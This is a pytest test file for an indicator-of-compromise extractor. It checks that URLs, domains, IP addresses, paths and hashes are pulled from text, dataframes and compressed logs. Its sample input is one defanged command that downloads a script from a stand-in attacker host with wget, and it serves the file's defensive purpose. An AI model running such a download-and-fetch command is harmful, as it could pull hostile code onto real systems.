# ruff: noqa: E501 (cases are as long as they are)
"""The door: texts, lists, tables of any make and files; types of one's own; single observables."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pytest

from flowsleuth.errors import OptionError, ReaderError
from flowsleuth.extract.ioc import columns
from flowsleuth.extract.ioc.extractor import COLUMNS, IoCExtract
from flowsleuth.extract.ioc.kinds import DESCRIPTIONS, NAMES, type_names

TEXT = "wget hxxp://evil[.]com/x.sh -O /tmp/x; ping 198.51.100.7"


def frame() -> pd.DataFrame:
    cells = [TEXT, None, 7, float("nan"), b"8.8.8.8 \xff", "ü 8.8.4.4", ["1.1.1.1"], "a\ud800 9.9.9.9"]
    return pd.DataFrame({"cmd": cells, "n": range(8)}, index=list("abcdefgh"))


def test_a_text_gives_sets_and_an_empty_one_for_the_rest():
    found = IoCExtract().extract(TEXT)
    assert found == {"url": {"http://evil.com/x.sh"}, "dns": {"evil.com"}, "ipv4": {"198.51.100.7"}}
    assert IoCExtract().extract(src=TEXT) == IoCExtract().extract(data=TEXT) == found
    assert found["ipv6"] == set()
    assert IoCExtract().extract("") == {}


def test_a_frame_gives_rows_with_places_and_is_not_changed():
    given = frame()
    before = given.copy(deep=True)
    found = IoCExtract().extract(data=given, columns=["cmd"])
    assert list(found.columns) == list(COLUMNS)
    pd.testing.assert_frame_equal(given, before)
    assert found["SourceIndex"].tolist() == ["a", "a", "a", "e", "f", "g", "h"]
    assert found.iloc[0].to_dict() == {
        "IoCType": "url", "Observable": "http://evil.com/x.sh", "SourceIndex": "a", "Input": TEXT, "Column": "cmd",
        "Start": 5, "Found": "hxxp://evil[.]com/x.sh",
    }  # fmt: skip
    for row in found.to_dict("records"):
        assert row["Input"][row["Start"] : row["Start"] + len(row["Found"])] == row["Found"]


@pytest.mark.parametrize("types", [None, ["url", "linux_path"], "ipv4", ["domain", "md5"]])
@pytest.mark.parametrize("paths", [False, True])
def test_text_and_frame_agree(types, paths):
    text = TEXT + " C:\\a\\b.exe d41d8cd98f00b204e9800998ecf8427e"
    alone = IoCExtract().extract(text, ioc_types=types, include_paths=paths)
    rows = IoCExtract().extract(data=pd.DataFrame({"x": [text]}), ioc_types=types, include_paths=paths)
    assert {(kind, value) for kind, values in alone.items() for value in values} == set(
        zip(rows["IoCType"], rows["Observable"], strict=True)
    )


def test_the_same_make_comes_back():
    texts = {"x": ["8.8.8.8", None], "y": ["none", "8.8.4.4"]}
    arrow = IoCExtract().extract(data=pa.table(texts))
    assert isinstance(arrow, pa.Table)
    assert arrow.select(["Observable", "SourceIndex", "Column"]).to_pylist() == [
        {"Observable": "8.8.8.8", "SourceIndex": 0, "Column": "x"},
        {"Observable": "8.8.4.4", "SourceIndex": 1, "Column": "y"},
    ]
    assert isinstance(IoCExtract().extract(data=pd.DataFrame(texts)), pd.DataFrame)
    polars = pytest.importorskip("polars")
    assert isinstance(IoCExtract().extract(data=polars.DataFrame(texts)), polars.DataFrame)


@pytest.mark.parametrize("nothing", [pd.DataFrame({"x": []}), pd.DataFrame({"x": [None]}), pd.DataFrame({"n": [1]})])
def test_nothing_gives_no_rows_and_all_columns(nothing):
    found = IoCExtract().extract(data=nothing)
    assert list(found.columns) == list(COLUMNS) and len(found) == 0


def test_lists_and_series():
    found = IoCExtract().extract(["8.8.8.8", None, 5, "x 8.8.4.4"])
    assert found[["Observable", "SourceIndex"]].values.tolist() == [["8.8.8.8", 0], ["8.8.4.4", 3]]
    found = IoCExtract().extract(pd.Series(["x", "8.8.8.8"], index=[10, 20]))
    assert found["SourceIndex"].tolist() == [20]


def test_a_long_text_is_not_repeated_without_end(monkeypatch, tmp_path):
    monkeypatch.setattr(columns, "INPUT_BYTES", 1_000)
    texts = ["x 8.8.8.8", "1.1.1.1 " * 100]
    found = IoCExtract().extract(pd.DataFrame({"x": texts}))
    assert len(found) == 101
    assert found["Input"][0] == texts[0] and found["Input"].notna().sum() == 2
    (tmp_path / "log").write_text("\n".join(texts))
    assert IoCExtract().extract(tmp_path / "log")["Input"].notna().sum() == 2


@pytest.mark.parametrize(("columns", "message"), [(["Cmd"], "did you mean cmd"), ("zzz", "no such column")])
def test_a_missing_column_is_told(columns, message):
    with pytest.raises(OptionError, match=message):
        IoCExtract().extract(data=frame(), columns=columns)


def test_what_cannot_be_looked_in():
    with pytest.raises(OptionError, match="nothing to look in"):
        IoCExtract().extract()
    with pytest.raises(OptionError, match="no such type"):
        IoCExtract().extract("x", ioc_types=["ipv5"])
    with pytest.raises(OptionError, match="no text"):
        IoCExtract().extract(5)


@pytest.mark.parametrize("pack", [lambda data: data, gzip.compress, bz2.compress, lzma.compress])
def test_files(tmp_path: Path, pack, monkeypatch):
    path = tmp_path / "log"
    path.write_bytes(pack("\ufeffü 8.8.8.8\r\nnone\n\nx 8.8.4.4".encode() + b" \xff 1.1.1.1"))
    expected = [["8.8.8.8", 1, 2], ["8.8.4.4", 4, 2], ["1.1.1.1", 4, 12]]
    assert IoCExtract().extract(data=path)[["Observable", "SourceIndex", "Start"]].values.tolist() == expected
    for size in (1, 7, 20):
        monkeypatch.setattr(columns, "BLOCK_BYTES", size)
        tables = list(IoCExtract().in_file(str(path)))
        rows = [
            list(row.values()) for table in tables for row in table.select(["Observable", "SourceIndex"]).to_pylist()
        ]
        if size > 15:
            assert rows == [row[:2] for row in expected]


def test_a_stream_and_a_file_that_is_not_there(tmp_path: Path):
    found = IoCExtract().extract(data=io.BytesIO(b"8.8.8.8\n"))
    assert found["Observable"].tolist() == ["8.8.8.8"]
    with pytest.raises(ReaderError, match="cannot be read"):
        list(IoCExtract().in_file(tmp_path / "none"))


def test_a_list_may_hold_anything():
    given = [pd.NA, None, float("nan"), pd.NaT, b"\xff 8.8.8.8", 7, "\ud800 9.9.9.9", ["1.1.1.1"], ("2.2.2.2", pd.NA)]
    found = IoCExtract().extract(given)
    assert found[["Observable", "SourceIndex"]].values.tolist() == [
        ["8.8.8.8", 4], ["9.9.9.9", 6], ["1.1.1.1", 7], ["2.2.2.2", 8],
    ]  # fmt: skip


def test_own_types_belong_to_one_instance():
    mine = IoCExtract()
    mine.add_ioc_type("ticket", r"ticket (?P<id>inc\d+)", group="id")
    mine.add_ioc_type("server", r"\b10\.\d+\.\d+\.\d+", priority=0)
    mine.add_ioc_type("weak", r"evil\.com", priority=9)
    found = mine.extract("Ticket INC12 of 10.0.0.1 and 8.8.8.8 at evil.com")
    assert found == {"ticket": {"INC12"}, "server": {"10.0.0.1"}, "ipv4": {"8.8.8.8"}, "dns": {"evil.com"}}
    rows = mine.extract(data=pd.DataFrame({"x": ["a", "ü ticket inc7"]}), ioc_types=["ticket"])
    assert rows[["Observable", "SourceIndex", "Start", "Found"]].values.tolist() == [["inc7", 1, 9, "inc7"]]
    assert "ticket" in mine.ioc_types and "ticket" not in IoCExtract().ioc_types
    with pytest.raises(OptionError, match="no such type"):
        IoCExtract().extract("x", ioc_types=["ticket"])


@pytest.mark.parametrize(("first", "second"), [(0, 9), (9, 0)])
def test_the_lowest_of_several_own_types_at_one_place_counts(first: int, second: int) -> None:
    mine = IoCExtract()
    mine.add_ioc_type("one", r"10\.\d+\.\d+\.\d+", priority=first)
    mine.add_ioc_type("two", r"10\.\d+\.\d+\.\d+", priority=second)
    assert mine.extract("10.0.0.1 and 192.0.2.7") == {"one": {"10.0.0.1"}, "two": {"10.0.0.1"}, "ipv4": {"192.0.2.7"}}


@pytest.mark.parametrize(
    ("name", "pattern", "group"),
    [("", "x", None), ("ipv4", "x", None), ("a", "(", None), ("a", "x", 1), ("a", "x", "g")],
)
def test_own_types_that_cannot_be(name, pattern, group):
    with pytest.raises(OptionError):
        IoCExtract().add_ioc_type(name, pattern, group=group)


@pytest.mark.parametrize(
    ("text", "kind", "is_one"),
    [
        (" 8.8.8.8 ", "ipv4", True), ("8.8.8.8 x", "ipv4", False), ("8.8.8.8", "ipv6", False), ("12:30:45", "ipv6", False),
        ("evil.zip", "dns", True), ("evil.com", "domain", True), ("svchost.exe", "dns", False), (None, "dns", False),
        ("", "url", False), ("hxxp://evil[.]com/", "url", True), ("/tmp/x", "linux_path", True),
    ],
)  # fmt: skip
def test_validate(text, kind, is_one):
    assert IoCExtract().validate(text, kind) is is_one


def test_validate_without_known_ends():
    assert IoCExtract().validate("dc1.corp.lan2", "dns", ignore_tlds=True)
    assert not IoCExtract().validate("8.8.8.8", "dns", ignore_tlds=True)
    assert not IoCExtract().validate("a b", "dns", ignore_tlds=True)


@pytest.mark.parametrize(
    ("text", "kind"),
    [("8.8.8.8", "ipv4"), ("2001:db8::1", "ipv6"), ("a@evil.com", "email"), ("C:\\a\\b", "windows_path"), ("x", "unknown"),
     (None, "unknown"), ("CVE-2021-44228", "cve"), ("10.0.0.0/8", "cidr")],
)  # fmt: skip
def test_get_ioc_type(text, kind):
    assert IoCExtract().get_ioc_type(text) == kind


@pytest.mark.parametrize(
    ("size", "kind"), [(32, "md5_hash"), (40, "sha1_hash"), (64, "sha256_hash"), (128, "sha512_hash"), (33, "unknown")]
)
def test_file_hash_type(size, kind):
    assert IoCExtract.file_hash_type("Ab" * (size // 2) + "c" * (size % 2)) == kind
    assert IoCExtract.file_hash_type(None) == "unknown"


def test_every_type_is_described():
    assert set(DESCRIPTIONS) == set(NAMES.values()) == set(type_names(None, include_paths=True))
